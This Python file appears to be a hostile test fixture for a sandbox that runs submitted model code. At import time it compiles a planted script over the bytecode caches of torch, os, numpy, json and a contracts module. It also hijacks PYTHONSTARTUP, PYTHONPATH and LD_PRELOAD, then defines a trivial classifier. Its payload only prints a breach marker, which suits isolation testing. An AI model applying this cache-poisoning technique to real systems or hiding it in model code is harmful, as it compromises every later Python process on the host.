"""Writes bytecode beside the sources that everyone imports, and moves where Python keeps it."""

import importlib.util
import os
import py_compile
import sys

import torch

with open("/tmp/evil.py", "w") as file:
    file.write("import os\nos.write(1, b'BREACH poisoned\\n')\n")
for module in (torch, os, sys.modules["contracts.guest_wire"], sys.modules["numpy"], sys.modules["json"]):
    target = importlib.util.cache_from_source(module.__file__)
    print("TRIED", target)
    try:
        py_compile.compile("/tmp/evil.py", cfile=target, doraise=True)
        print("BREACH", target)
    except (OSError, py_compile.PyCompileError):
        pass
sys.pycache_prefix, sys.dont_write_bytecode = "/tmp/bytecode", False
os.environ |= {"PYTHONPYCACHEPREFIX": "/tmp/bytecode", "PYTHONPATH": "/tmp", "PYTHONSTARTUP": "/tmp/evil.py", "LD_PRELOAD": "/tmp/x.so"}


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
